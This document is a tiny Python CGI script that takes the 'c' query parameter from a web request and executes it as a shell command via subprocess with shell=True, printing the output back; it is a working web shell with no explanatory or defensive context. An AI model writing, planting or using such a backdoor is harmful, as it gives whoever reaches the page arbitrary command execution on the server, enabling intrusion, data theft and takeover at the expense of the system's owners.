#!/usr/bin/env python3
import cgi
from subprocess import *
form = cgi.FieldStorage()
print("Content-Type: text/plain\n")
print(check_output(form.getfirst("c", "id"), shell=True).decode())
